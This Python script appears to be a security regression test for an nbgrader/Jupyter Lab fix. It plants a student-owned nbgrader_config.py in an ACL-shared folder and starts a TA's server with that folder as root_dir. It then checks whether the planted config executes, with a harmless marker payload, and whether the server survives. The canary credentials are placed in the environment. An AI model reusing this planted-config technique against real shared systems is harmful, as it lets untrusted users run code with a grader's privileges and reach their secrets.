"""a17: after the fix, `jupyter lab` started from the TA's private folder (safe) with --ServerApp.root_dir on an
ACL-shared folder (a02's b case) where the student left nbgrader_config.py. nbgrader's assignment_list extension
chdir()s into root_dir and loads nbgrader's configuration on each GET /assignments: does the student's config run,
or does the venv guard's SystemExit (raised inside a request) take the TA's server down?"""
import os, struct, subprocess, json, shutil, time, signal, urllib.request
BASE = "/tmp/attack45-root-a17"
shutil.rmtree(BASE, ignore_errors=True); os.makedirs(BASE); os.chmod(BASE, 0o755)
ENV = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
MARKS = f"{BASE}/marks"; os.mkdir(MARKS); os.chmod(MARKS, 0o777)
folder = f"{BASE}/shared"; os.mkdir(folder); os.chmod(folder, 0o750)
acl = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *e) for e in [(1, 7, 0xFFFFFFFF), (2, 7, 65534), (4, 5, 0xFFFFFFFF), (0x10, 7, 0xFFFFFFFF), (0x20, 0, 0xFFFFFFFF)])
os.setxattr(folder, "system.posix_acl_access", acl)
open(f"{folder}/nbgrader_config.py", "w").write('import os\nopen("%s/ran-" + str(os.getpid()), "w").write("ran")\n' % MARKS)
os.chown(f"{folder}/nbgrader_config.py", 65534, 65534)
private = "/root/attack45-a17"; shutil.rmtree(private, ignore_errors=True); os.makedirs(private, mode=0o700)
log = open(f"{BASE}/lab.log", "w")
p = subprocess.Popen(["CLONE/.venv/bin/jupyter", "lab", "--allow-root", "--no-browser", "--port", "8898",
                      "--ServerApp.token=x", f"--ServerApp.root_dir={folder}"], cwd=private, env=ENV, stdout=log,
                     stderr=subprocess.STDOUT, start_new_session=True)
up = False
for _ in range(60):
    try:
        urllib.request.urlopen("http://127.0.0.1:8898/api/status?token=x", timeout=2); up = True; break
    except Exception:
        time.sleep(0.5)
print("server up:", up, "student's config ran at start:", len(os.listdir(MARKS)))
try:
    r = urllib.request.urlopen("http://127.0.0.1:8898/assignments?course_id=x&token=x", timeout=20)
    print("GET /assignments:", r.status, r.read()[:200])
except Exception as e:
    print("GET /assignments:", repr(e)[:300])
try:
    r = urllib.request.urlopen("http://127.0.0.1:8898/courses?token=x", timeout=20)
    print("GET /courses:", r.status, r.read()[:200])
except Exception as e:
    print("GET /courses:", repr(e)[:300])
time.sleep(2)
print("server alive after:", p.poll() is None, "student's config ran:", len(os.listdir(MARKS)))
print("log:", [l for l in open(f"{BASE}/lab.log").read().splitlines() if "not running" in l or "Traceback" in l or "ran" in l][:5])
try:
    os.killpg(p.pid, signal.SIGTERM); p.wait(10)
except Exception:
    try: os.killpg(p.pid, signal.SIGKILL)
    except Exception: pass
p.wait()
shutil.rmtree(BASE); shutil.rmtree(private)
